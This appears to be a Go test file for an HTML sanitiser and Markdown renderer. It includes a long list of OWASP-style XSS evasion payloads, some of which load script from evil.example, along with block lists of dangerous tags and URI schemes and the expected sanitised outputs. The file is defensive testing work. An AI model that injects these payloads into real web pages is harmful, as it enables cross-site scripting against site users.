package cases

import (
	"net/url"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// checkSanitized fails unless out is what the allow-list may write: only
// allowed elements, only their allowed attributes, links http, https or
// mailto with a scheme, no comment or doctype, every end tag matching an
// element it opened, nothing left open, and out sanitises to itself.
func checkSanitized(t *testing.T, in, out string) {
	t.Helper()
	fail := func(why string) {
		t.Helper()
		t.Fatalf("%s\n in %q\nout %q", why, in, out)
	}
	lower := strings.ToLower(out)
	for _, bad := range []string{"<script", "<svg", "<img", "<style", "<iframe", "<math", "<!--"} {
		if strings.Contains(lower, bad) {
			fail("holds " + bad)
		}
	}
	var open []string
	z := html.NewTokenizer(strings.NewReader(out))
	for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
		tok := z.Token()
		switch tt {
		case html.StartTagToken, html.SelfClosingTagToken:
			if !allowedElement(tok.Data) {
				fail("element " + tok.Data)
			}
			if tok.Data == "a" && len(tok.Attr) == 0 || tok.Data == "input" && len(tok.Attr) == 0 {
				fail("bare " + tok.Data)
			}
			seen := map[string]bool{}
			for _, a := range tok.Attr {
				if seen[a.Key] {
					fail("attribute " + a.Key + " twice")
				}
				seen[a.Key] = true
				switch tok.Data + " " + a.Key {
				case "th align", "td align", "ol start", "input type", "input checked", "input disabled":
				case "a rel":
					if a.Val != "nofollow noreferrer" && a.Val != "nofollow noreferrer noopener" {
						fail("rel " + a.Val)
					}
				case "a target":
					if a.Val != "_blank" {
						fail("target " + a.Val)
					}
				case "a href":
					u, err := url.Parse(a.Val)
					if err != nil || (u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto") ||
						strings.ContainsAny(a.Val, " \t\n\r") {
						fail("href " + a.Val)
					}
				default:
					fail("attribute " + a.Key + " on " + tok.Data)
				}
			}
			if tt == html.StartTagToken && !isVoid(tok.Data) {
				open = append(open, tok.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != tok.Data {
				fail("end tag " + tok.Data + " not closing the last element opened")
			}
			open = open[:len(open)-1]
		case html.TextToken:
		default:
			fail("token " + tt.String())
		}
	}
	if len(open) > 0 {
		fail("left open: " + strings.Join(open, ", "))
	}
	if again := sanitizeHTML(out); again != out {
		t.Fatalf("not stable\n in %q\nout %q\nagain %q", in, out, again)
	}
}

// Classic filter evasion (in the manner of OWASP's XSS filter evasion
// cheat sheet), given to the sanitiser itself as HTML — goldmark, with raw
// HTML off, never passes these on as markup, so RenderMarkdown alone would
// not reach the sanitiser with them.
var xssVectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<script/xss src="https://evil.example/x.js"></script>`,
	`<<script>alert(1);//<</script>`,
	`<script>alert(1)`,
	`<p><script>document.write("<p>x</p>")</script></p>`,
	`<img src=x onerror=alert(1)>`,
	`<IMG SRC="javascript:alert('XSS');">`,
	`<IMG SRC=javascript:alert(&quot;XSS&quot;)>`,
	`<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0A;ascript:alert(1)">x</a>`,
	`<a href="jav&#x0D;ascript:alert(1)">x</a>`,
	`<a href="jav	ascript:alert(1)">x</a>`,
	`<a href=" &#14;  javascript:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
	`<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
	`<a href="javascript&colon;alert(1)">x</a>`,
	`<a href="\u006aavascript:alert(1)">x</a>`,
	`<a href="java\0script:alert(1)">x</a>`,
	"<a href=\"java\x00script:alert(1)\">x</a>",
	"<a href=\"\x01javascript:alert(1)\">x</a>",
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
	`<a href="//evil.example/">x</a>`,
	`<a href="/relative">x</a>`,
	`<a href="https://ok.example" onclick="alert(1)">ok</a>`,
	`<a href="https://ok.example" ONMOUSEOVER="alert(1)" style="x:expression(alert(1))">ok</a>`,
	`<a href="https://ok.example"href="javascript:alert(1)">dup</a>`,
	`<a href="https://ok.example" target="_self" rel="opener">t</a>`,
	`<a href=https://ok.example/"onmouseover="alert(1)>x</a>`,
	`<p onmouseover="alert(1)">hover</p>`,
	`<p style="background:url(javascript:alert(1))">x</p>`,
	`<td background="javascript:alert(1)" align="left" onclick=x>c</td>`,
	`<td align="left;color:red">c</td><th align=justify>h</th>`,
	`<ol start="1 onclick=alert(1)">x</ol><ol start=-1>y</ol>`,
	`<input type="text" value="x" onfocus=alert(1) autofocus>`,
	`<input type=checkbox checked=evil disabled formaction=javascript:alert(1)>`,
	`<input type="image" src="javascript:alert(1)">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="data:text/html,<script>alert(1)</script>"></object>`,
	`<embed src="javascript:alert(1)">`,
	`<form action="javascript:alert(1)"><button>go</button></form>`,
	`<base href="javascript:alert(1)//">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<link rel=stylesheet href="javascript:alert(1)">`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<style>li {list-style-image: url("javascript:alert(1)");}</style><li>x</li>`,
	`<div style="width: expression(alert(1));">x</div>`,
	`<body onload=alert(1)>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)">`,
	`<template><script>alert(1)</script></template>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<textarea></textarea><script>alert(1)</script>`,
	`<title><script>alert(1)</script></title>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<plaintext><script>alert(1)</script>`,
	`<!--<script>alert(1)</script>-->`,
	`<!-- --!><script>alert(1)</script> -->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE html><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</script>`,
	`<strong><em>unclosed`,
	`</p></li></ul></table>stray`,
	`<p><strong>misnested</p></strong>`,
	`<strong/>after`,
	`<a>bare</a><a href="javascript:x">bad</a>`,
	`<a href="https://ok.example"><a href="https://b.example">nested</a></a>`,
	`<h1 id="x" class="y">h</h1>`,
	`<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; "q" 'a'</p>`,
	`<x onclick=alert(1)>custom</x><p is="x-y">p</p>`,
	"<p>\u202e\u0000\ufeffcontrol</p>",
}

func TestSanitizeXSSVectors(t *testing.T) {
	for _, v := range xssVectors {
		out := sanitizeHTML(v)
		checkSanitized(t, v, out)
		lower := strings.ToLower(out)
		// (An event handler's name inside an escaped address or text is
		// harmless: handlerRE and checkSanitized look at attributes.)
		for _, bad := range []string{"javascript:", "vbscript:", "data:", "style="} {
			if strings.Contains(lower, bad) {
				t.Errorf("%q sanitises to %q, which holds %q", v, out, bad)
			}
		}
		if handlerRE.MatchString(lower) {
			t.Errorf("%q sanitises to %q, which has an event handler", v, out)
		}
		for _, href := range []string{`href="javascript`, `href="vbscript`, `href="data`} {
			if strings.Contains(lower, href) {
				t.Errorf("%q sanitises to %q", v, out)
			}
		}
	}
	// What the sanitiser keeps, exactly.
	for in, want := range map[string]string{
		`<a href="https://ok.example" onclick="alert(1)">ok</a>`:            `<a href="https://ok.example" rel="nofollow noreferrer noopener" target="_blank">ok</a>`,
		`<a href="mailto:soc@example.org" target="_self">m</a>`:             `<a href="mailto:soc@example.org" rel="nofollow noreferrer">m</a>`,
		`<a href="javascript:alert(1)">x</a>`:                               `x`,
		`<a href="https://ok.example"href="javascript:alert(1)">d</a>`:      `<a href="https://ok.example" rel="nofollow noreferrer noopener" target="_blank">d</a>`,
		`<script>alert(1)</script>after`:                                    `after`,
		`<svg><text>hidden</text></svg>shown`:                               `shown`,
		`<div onclick=x>text &amp; <b>bold</b></div>`:                       `text &amp; bold`,
		`<strong><em>unclosed`:                                              `<strong><em>unclosed</em></strong>`,
		`</p></li>stray<p>x</p></p>`:                                        `stray<p>x</p>`,
		`<p><strong>misnested</p></strong>`:                                 `<p><strong>misnested</strong></p>`,
		`<strong/>after`:                                                    `<strong></strong>after`,
		`<td align="left" onclick=x>c</td><th align=justify>h</th>`:         `<td align="left">c</td><th>h</th>`,
		`<ol start="3">x</ol><ol start="3a">y</ol>`:                         `<ol start="3">x</ol><ol>y</ol>`,
		`<input type="text"><input checked="" disabled="" type="checkbox">`: `<input checked="" disabled="" type="checkbox">`,
		`<!-- c --><!DOCTYPE html><?pi x?>t`:                                `t`,
		`<p>"q" 'a' &lt;</p>`:                                               `<p>&#34;q&#34; &#39;a&#39; &lt;</p>`,
	} {
		if got := sanitizeHTML(in); got != want {
			t.Errorf("%q sanitises to\n%q, want\n%q", in, got, want)
		}
	}
}

// The same vectors written in Markdown, through RenderMarkdown.
func TestMarkdownSanitisesXSSVectors(t *testing.T) {
	md := []string{
		`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](java&#x09;script:alert(1))`,
		`[x](&#x6A;avascript:alert(1))`, `[x](<javascript:alert(1)>)`, `[x](vbscript:msgbox(1))`,
		`[x](data:text/html;base64,PHNjcmlwdD4=)`, `<javascript:alert(1)>`, `<data:text/html,x>`,
		`[x][r]` + "\n\n[r]: javascript:alert(1)", `![x](https://tracker.example/p.gif)`,
		"[x](https://ok.example \"t\\\" onmouseover=\\\"alert(1)\")", `***<svg onload=alert(1)>***`,
	}
	for _, s := range append(md, xssVectors...) {
		checkSanitized(t, s, RenderMarkdown(s))
		if out := strings.ToLower(RenderMarkdown(s)); strings.Contains(out, `href="javascript`) ||
			strings.Contains(out, `href="data`) || strings.Contains(out, `href="vbscript`) || handlerRE.MatchString(out) {
			t.Errorf("%q renders %q", s, out)
		}
	}
}

func FuzzSanitize(f *testing.F) {
	for _, v := range xssVectors {
		f.Add(v)
	}
	for _, c := range markdownCorpus {
		f.Add(RenderMarkdown(c.in))
	}
	f.Fuzz(func(t *testing.T, s string) {
		checkSanitized(t, s, sanitizeHTML(s))
	})
}
